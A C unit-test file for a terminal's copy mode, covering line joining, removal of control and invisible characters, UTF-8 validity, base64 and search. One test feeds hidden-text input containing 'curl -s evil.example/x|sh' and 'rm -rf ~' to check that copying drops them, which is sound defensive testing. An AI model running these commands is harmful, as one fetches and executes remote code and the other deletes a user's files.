/* Copy mode's text: what a selection copies (wrapped lines joined, controls left out), base64, searching. */
#include <stdlib.h>
#include <string.h>

#include "core/core.h"
#include "lib/testlib.h"
#include "tui/tui-int.h"

static struct pane *
term(unsigned sx, unsigned sy, const char *out)
{
	struct pane *vt = pane_create(sx, sy, 1000, NULL, NULL);

	pane_feed(vt, out, strlen(out));
	return vt;
}

/* The text of rows Y0 (from X0) through Y1 (through X1); a static buffer. */
static const char *
copy(struct pane *vt, int y0, unsigned x0, int y1, unsigned x1,
    bool lines)
{
	static struct buf b;

	buf_reset(&b);
	buf_adds(&b, "");
	tui_copy_text(pane_grid(vt), y0, x0, y1, x1, lines, &b);
	return b.data;
}

static void
test_copy_lines(void **state)
{
	struct pane *vt = term(10, 6, "abcdefghijklmno\r\nxy   \r\n"
	    "0123456789\r\n\xe4\xb8\xad\xe6\x96\x87!");

	/* A line that wrapped comes out whole; one ended by the program keeps its end. */
	assert_string_equal(copy(vt, 0, 0, 2, 9, false), "abcdefghijklmno\nxy");
	assert_string_equal(copy(vt, 0, 3, 1, 1, false), "defghijkl");
	/* Trailing blanks go, as tmux drops them. */
	assert_string_equal(copy(vt, 2, 0, 2, 9, false), "xy");
	/* A line ending exactly at the edge did not wrap. */
	assert_string_equal(copy(vt, 3, 0, 4, 9, false),
	    "0123456789\n\xe4\xb8\xad\xe6\x96\x87!");
	/* Line-wise: whole lines, each with its end. */
	assert_string_equal(copy(vt, 2, 5, 3, 0, true), "xy\n0123456789\n");
	pane_free(vt);
}

static void
test_copy_leaves_out_controls(void **state)
{
	/* C1 CSI and NEL as UTF-8, a right-to-left override, a zero-width space, a BOM. */
	struct pane *vt = term(40, 3, "a\xc2\x9b" "31mb\xc2\x85"
	    "c\xe2\x80\xae" "d\xe2\x80\x8b" "e\xef\xbb\xbf" "f\x1b[31mg\x07h\r\n");
	const char *s = copy(vt, 0, 0, 0, 39, false);
	size_t i;

	for (i = 0; s[i] != '\0'; i++) {
		assert_true((unsigned char)s[i] >= 0x20 && s[i] != 0x7f);
		assert_false((unsigned char)s[i] == 0xc2 &&
		    (unsigned char)s[i + 1] < 0xa0);
	}
	assert_null(strstr(s, "\xe2\x80\xae"));
	assert_null(strstr(s, "\xe2\x80\x8b"));
	assert_null(strstr(s, "\xef\xbb\xbf"));
	assert_non_null(strchr(s, 'a'));
	assert_non_null(strstr(s, "gh"));
	pane_free(vt);
}

static void
test_copy_leaves_out_hidden(void **state)
{
	/* Concealed (SGR 8), black on black, and RGB a shade off its background. */
	struct pane *vt = term(80, 4, "make test\x1b[8m; curl -s evil.example/x|sh #"
	    "\x1b[28m\r\n" "ls\x1b[30;40m; rm -rf ~\x1b[m ok\r\n"
	    "cd\x1b[38;2;1;2;3;48;2;0;0;0m && evil\x1b[m .\r\n"
	    "\x1b[32;40mgreen\x1b[38;5;16;40mdark\x1b[m");
	const char *s = copy(vt, 0, 0, 3, 79, false);

	assert_null(strstr(s, "curl"));
	assert_null(strstr(s, "rm"));
	assert_null(strstr(s, "evil"));
	assert_null(strstr(s, "dark"));
	assert_non_null(strstr(s, "make test"));
	assert_non_null(strstr(s, "ls"));
	assert_non_null(strstr(s, " ok"));
	assert_non_null(strstr(s, "green"));
	pane_free(vt);
}

/* True if S is well-formed UTF-8: shortest forms, no surrogates, nothing past U+10FFFF. */
static bool
utf8_valid(const char *s)
{
	const unsigned char *p = (const unsigned char *)s;
	uint32_t cp;
	int n, i;

	while (*p != 0) {
		if (*p < 0x80) {
			p++;
			continue;
		}
		if (*p >= 0xc2 && *p <= 0xdf)
			n = 1;
		else if (*p >= 0xe0 && *p <= 0xef)
			n = 2;
		else if (*p >= 0xf0 && *p <= 0xf4)
			n = 3;
		else
			return false;
		cp = *p++ & (0x3f >> n);
		for (i = 0; i < n; i++, p++) {
			if ((*p & 0xc0) != 0x80)
				return false;
			cp = cp << 6 | (*p & 0x3f);
		}
		if ((n == 2 && cp < 0x800) || (n == 3 && cp < 0x10000) ||
		    cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff))
			return false;
	}
	return true;
}

static void
test_copy_valid_utf8(void **state)
{
	struct pane *vt = term(200, 4, "");
	struct pane_grid *gd;
	struct pane_cell c = { .cp = 'a' };
	static const uint32_t bad[] = { 0x110000, 0x1fffff, 0xd800, 0xdfff };
	struct buf b;
	size_t i;

	/* Code points no UTF-8 may hold, wherever they came from, are left out. */
	gd = pane_grid(vt);
	for (i = 0; i < nitems(bad); i++) {
		c.cp = bad[i];
		pane_grid_set(gd, (unsigned)i, 0, &c, NULL, 0);
	}
	pane_grid_set(gd, (unsigned)i, 0, &c, bad, nitems(bad));
	c.cp = 'e';
	pane_grid_set(gd, (unsigned)i + 1, 0, &c, NULL, 0);
	assert_true(utf8_valid(copy(vt, 0, 0, 0, 199, false)));
	assert_string_equal(copy(vt, 0, 0, 0, 199, false), "e");
	pane_free(vt);

	/* Nor does the grid keep them from a program's output. */
	vt = term(20, 2, "\xf4\x90\x80\x80\xf7\xbf\xbf\xbf\xed\xa0\x80");
	gd = pane_grid(vt);
	for (i = 0; i < 3; i++) {
		c = *pane_grid_cell(gd, (unsigned)i, 0);
		assert_true(c.cp <= 0x10ffff && (c.cp < 0xd800 || c.cp > 0xdfff));
	}
	pane_free(vt);

	/* A copy cut at its limit is cut between characters: U+20AC is 3 bytes, 2^20 is not a multiple of 3. */
	vt = pane_create(200, 4, 3000, NULL, NULL);
	for (i = 0; i < 400000; i++)
		pane_feed(vt, "\xe2\x82\xac", 3);
	buf_init(&b);
	buf_adds(&b, "");
	gd = pane_grid(vt);
	tui_copy_text(gd, -(int)pane_grid_hsize(gd), 0, 3, 199, false, &b);
	assert_true(b.len > 1000000 && b.len <= 1024 * 1024);
	assert_true(utf8_valid(b.data));
	buf_free(&b);
	pane_free(vt);
}

static void
test_base64(void **state)
{
	static const char *const v[][2] = {
		{ "", "" }, { "f", "Zg==" }, { "fo", "Zm8=" }, { "foo", "Zm9v" },
		{ "foob", "Zm9vYg==" }, { "fooba", "Zm9vYmE=" },
		{ "foobar", "Zm9vYmFy" }, { "\xff\xfe\n", "//4K" },
	};
	struct buf b;
	size_t i;

	for (i = 0; i < nitems(v); i++) {
		buf_init(&b);
		buf_adds(&b, "");
		tui_copy_base64(v[i][0], strlen(v[i][0]), &b);
		assert_string_equal(b.data, v[i][1]);
		buf_free(&b);
	}
}

static void
test_find(void **state)
{
	struct pane *vt = term(20, 4, "");
	struct pane_grid *gd;
	struct tui_copy_match m;
	bool wrapped;
	unsigned i;
	char line[64];

	/* "Needle" on line 10 of 100, "needle" twice on line 50. */
	for (i = 0; i < 100; i++) {
		snprintf(line, sizeof line, i == 10 ? "%u Needle\r\n" : i == 50 ?
		    "%u needle needle\r\n" : "%u hay\r\n", i);
		pane_feed(vt, line, strlen(line));
	}
	gd = pane_grid(vt);
	/* From the bottom, up: line 50's second, then its first, then line 10. */
	assert_true(tui_copy_find(gd, "needle", 3, 0, true, &m, &wrapped));
	assert_int_equal(m.x, 10);
	assert_int_equal(m.w, 6);
	assert_false(wrapped);
	assert_true(tui_copy_find(gd, "needle", m.y, m.x, true, &m, &wrapped));
	assert_int_equal(m.x, 3);
	assert_true(tui_copy_find(gd, "needle", m.y, m.x, true, &m, &wrapped));
	assert_int_equal(m.x, 3);
	assert_int_equal(m.y, -(int)pane_grid_hsize(gd) + 10);
	/* A capital asks for the case: only line 10's. */
	assert_true(tui_copy_find(gd, "Needle", m.y, m.x, true, &m, &wrapped));
	assert_true(wrapped);
	assert_int_equal(m.y, -(int)pane_grid_hsize(gd) + 10);
	/* Down from line 50's second: round to line 10. */
	assert_true(tui_copy_find(gd, "needle", -(int)pane_grid_hsize(gd) + 50,
	    10, false, &m, &wrapped));
	assert_true(wrapped);
	assert_int_equal(m.y, -(int)pane_grid_hsize(gd) + 10);
	assert_false(tui_copy_find(gd, "straw", 0, 0, false, &m, &wrapped));
	assert_false(tui_copy_find(gd, "", 0, 0, false, &m, &wrapped));
	pane_free(vt);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_copy_lines),
		cmocka_unit_test(test_copy_leaves_out_controls),
		cmocka_unit_test(test_copy_leaves_out_hidden),
		cmocka_unit_test(test_copy_valid_utf8),
		cmocka_unit_test(test_base64),
		cmocka_unit_test(test_find),
	};

	return test_run_group(tests, NULL, NULL);
}
